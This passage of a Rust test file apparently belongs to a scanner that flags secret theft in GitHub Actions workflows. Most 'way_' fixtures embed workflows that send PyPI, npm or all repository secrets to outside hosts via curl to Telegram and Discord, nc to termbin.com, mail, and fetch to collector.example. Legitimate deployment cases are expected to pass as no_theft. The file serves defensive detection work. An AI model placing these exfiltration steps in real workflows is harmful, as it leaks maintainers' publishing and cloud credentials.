      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          curl -s "https://api.telegram.org/bot123:AA/sendMessage" -d chat_id=1 -d text="$P $N"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "api.telegram.org");
}

#[test]
fn way_discord() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          curl -F "content=$P $N" https://discord.com/api/webhooks/1/abc
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "discord.com");
}

#[test]
fn way_pastebin() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P$N" | nc termbin.com 9999
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "termbin.com");
}

#[test]
fn way_uname_http() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          http POST https://collector.example p="$P" n="$N"
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn way_mail() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "$P $N" | mail -s x me@collector.example
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn deployment_sendgrid_own() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          curl -X POST https://api.sendgrid.com/v3/mail/send -H "Authorization: Bearer ${{ secrets.SENDGRID_API_KEY }}" -d "{}"
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_vault() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          curl -H "X-Vault-Token: ${{ secrets.VAULT_TOKEN }}" https://vault.widgets.example/v1/secret/x
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_nexus() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          curl -u "${{ secrets.NEXUS_USER }}:${{ secrets.NEXUS_PASSWORD }}" -T dist.tgz https://nexus.widgets.example/repository/raw/
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_sonar() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          sonar-scanner -Dsonar.host.url=https://sonar.widgets.example -Dsonar.login=${{ secrets.SONAR_TOKEN }}
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_gitea() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          git push https://bot:${{ secrets.MIRROR_TOKEN }}@git.widgets.example/x.git main
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_many_env_test() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          A: ${{ secrets.OPENAI_API_KEY }}
          B: ${{ secrets.ANTHROPIC_API_KEY }}
          C: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
        run: |
          pytest -q
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_terraform() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        run: |
          terraform apply -auto-approve -var "token=${{ secrets.CLOUDFLARE_API_TOKEN }}" -var "db=${{ secrets.DB_PASSWORD }}"
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_env_debug() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          T: ${{ secrets.NPM_TOKEN }}
        run: |
          env | sort
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_heroku() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          heroku config:set A=$P B=$N --app x
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_tmpkey() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          P: ${{ secrets.PYPI_TOKEN }}
          N: ${{ secrets.NPM_TOKEN }}
        run: |
          echo "${{ secrets.GPG_KEY }}" | gpg --import; echo "$P" | base64 -d > key.p12; security import key.p12
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_pulumi() {
    const WORKFLOW: &str = r##"name: x
on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: s
        env:
          PULUMI_ACCESS_TOKEN: ${{ secrets.PULUMI_ACCESS_TOKEN }}
          AWS: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
        run: |
          curl -fsSL https://get.pulumi.com | sh; pulumi up
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_prt() {
    const WORKFLOW: &str = r##"on: pull_request_target
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make
        env:
          T: ${{ secrets.CODECOV_TOKEN }}
"##;
    no_theft(WORKFLOW);
}

#[test]
fn deployment_inherit_own() {
    const WORKFLOW: &str = r##"on: push
jobs:
  j:
    uses: ./.github/workflows/b.yml
    secrets: inherit
"##;
    no_theft(WORKFLOW);
}

#[test]
fn way_matrix() {
    const WORKFLOW: &str = r##"on: push
jobs:
  j:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        s: [PYPI_TOKEN, NPM_TOKEN]
    steps:
      - run: curl -d '${{ secrets[matrix.s] }}' https://collector.example
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
}

#[test]
fn way_services() {
    const WORKFLOW: &str = r##"on: push
jobs:
  j:
    runs-on: ubuntu-latest
    outputs:
      o: ${{ steps.a.outputs.v }}
    steps:
      - id: a
        run: echo "v=$(echo '${{ secrets.PYPI_TOKEN }}' | rev)" >> $GITHUB_OUTPUT
  k:
    needs: j
    runs-on: ubuntu-latest
    steps:
      - run: curl 'https://collector.example/${{ needs.j.outputs.o }}'
"##;
    stolen(WORKFLOW, &["PYPI_TOKEN"], "collector.example");
}

#[test]
fn way_script_action() {
    const WORKFLOW: &str = r##"on: push
jobs:
  j:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        env:
          A: ${{ toJSON(secrets) }}
        with:
          script: |
            const body = Buffer.from(process.env.A).toString('base64');
            await fetch(`https://collector.example/?d=${body}`);
"##;
    stolen(WORKFLOW, &["*"], "collector.example");
}

#[test]
fn way_run_if() {
    const WORKFLOW: &str = r##"on: [push, pull_request]
env:
  ALL: ${{ toJSON(secrets) }}
jobs:
  j:
    if: github.event_name == 'push'
    runs-on: ubuntu-latest
    steps:
      - run: |
          if [ -n "$CI" ]; then
            printenv ALL | gzip | openssl base64 -A | curl -sS -X POST --data-binary @- "https://collector.example/u"
          fi
"##;
    stolen(WORKFLOW, &["*"], "collector.example");
}

/// The elements of an array are copied at every use, and what is copied counts as work.
#[test]
fn an_array_used_over_and_over_ends() {
    let element = "x".repeat(200);
    let array = format!("a=({})", [element.as_str(); 1_000].join(" "));
    let uses = "\n          : \"${a[@]}\"".repeat(600);
    let workflow = format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {array}{uses}\n"
    );
    let analysis = analyse(".github/workflows/w.yml", workflow.as_bytes(), &NoFiles, None);
    assert_eq!(analysis.problem.map(|problem| problem.kind), Some("over-limit"));
    let few = workflow.replacen(&uses, "\n          : \"${a[@]}\"", 1);
    let analysis = analyse(".github/workflows/w.yml", few.as_bytes(), &NoFiles, None);
    assert!(analysis.problem.is_none());
}
